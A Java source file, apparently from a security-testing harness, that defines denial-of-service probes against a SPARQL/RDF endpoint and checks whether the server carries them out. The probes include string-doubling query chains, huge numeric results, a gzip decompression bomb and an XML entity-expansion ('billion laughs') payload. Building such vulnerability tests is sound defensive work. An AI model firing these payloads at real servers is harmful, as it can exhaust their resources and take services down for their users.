package org.rungwork.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.GZIPOutputStream;

/** A short request makes something large. */
final class GrowingAttacks {

    private static final int MANY_DIGITS = 100_000;
    private static final int MANY_CHARACTERS = 1 << 21;
    private static final int BOMB = 100 << 20;

    private GrowingAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.open(
                        "CONCAT grows to 2 million characters",
                        (victim, bait) -> grows(victim, "'a'", "CONCAT(?v%1$d, ?v%1$d)", 21)),
                Attack.open(
                        "REPLACE grows to 2 million characters",
                        (victim, bait) -> grows(victim, "'a'", "REPLACE(?v%1$d, 'a', 'aa')", 21)),
                Attack.open(
                        "ENCODE_FOR_URI grows to 2 million characters",
                        (victim, bait) -> grows(victim, "'%'", "ENCODE_FOR_URI(CONCAT(?v%1$d, ?v%1$d, ?v%1$d))", 11)),
                Attack.open(
                        "a format grows to 2 million characters",
                        (victim, bait) -> victim.query("PREFIX afn: <http://jena.apache.org/ARQ/function#>"
                                                + " SELECT (STRLEN(afn:sprintf('%" + MANY_CHARACTERS
                                                + "d', 1)) AS ?n) {}")
                                        .number()
                                >= MANY_CHARACTERS),
                Attack.open(
                        "GROUP_CONCAT grows to 2 million characters",
                        (victim, bait) -> victim.query("SELECT (STRLEN(GROUP_CONCAT(?x; SEPARATOR='" + "-".repeat(2500)
                                                + "')) AS ?n) { VALUES ?x { " + numbers() + " } }")
                                        .number()
                                >= MANY_CHARACTERS),
                Attack.open(
                        "a power has a hundred thousand digits",
                        (victim, bait) -> victim.query("PREFIX math: <http://www.w3.org/2005/xpath-functions/math#>"
                                                + " SELECT (STRLEN(STR(math:pow(10, 100000))) AS ?n) {}")
                                        .number()
                                >= MANY_DIGITS),
                Attack.open("a product has sixteen thousand digits", (victim, bait) -> {
                    String query =
                            "SELECT (STRLEN(STR(?v14)) AS ?n) { BIND(10 AS ?v0) " + steps("?v%1$d * ?v%1$d", 14) + " }";
                    return victim.query(query).number() > 1 << 14;
                }),
                Attack.open(
                        "a body of 100 kB becomes 100 MB",
                        (victim, bait) -> victim.put("text/turtle", bomb(), "Content-Encoding", "gzip")
                                .isDone()),
                Attack.closed("XML entities double thirty times", (victim, bait) -> {
                    String doubling = IntStream.range(0, 30)
                            .mapToObj(n -> "<!ENTITY x" + n + " '&x" + (n + 1) + ";&x" + (n + 1) + ";'>")
                            .collect(Collectors.joining());
                    String text = "<!DOCTYPE r [<!ENTITY x30 'aaaaaaaaaa'>" + doubling + "]>"
                            + "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns:e='urn:e:'>"
                            + "<rdf:Description rdf:about='urn:s'><e:p>&x0;</e:p></rdf:Description></rdf:RDF>";
                    return victim.put("application/rdf+xml", ReachingAttacks.bytes(text))
                            .isDone();
                }));
    }

    private static boolean grows(Victim victim, String first, String growing, int steps) {
        String query =
                "SELECT (STRLEN(?v" + steps + ") AS ?n) { BIND(" + first + " AS ?v0) " + steps(growing, steps) + " }";
        return victim.query(query).number() >= MANY_CHARACTERS;
    }

    private static String steps(String growing, int count) {
        return IntStream.range(0, count)
                .mapToObj(step -> "BIND(" + growing.formatted(step) + " AS ?v" + (step + 1) + ")")
                .collect(Collectors.joining(" "));
    }

    private static String numbers() {
        return IntStream.range(0, 1000).mapToObj(Integer::toString).collect(Collectors.joining(" "));
    }

    /** A remark of 100 MiB, compressed. */
    private static byte[] bomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream compressed = new GZIPOutputStream(bytes)) {
            compressed.write('#');
            byte[] some = new byte[1 << 20];
            Arrays.fill(some, (byte) 'a');
            for (int written = 0; written < BOMB; written += some.length) {
                compressed.write(some);
            }
            compressed.write(ReachingAttacks.bytes("\n<http://e/s> <http://e/p> 1 ."));
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
        return bytes.toByteArray();
    }
}
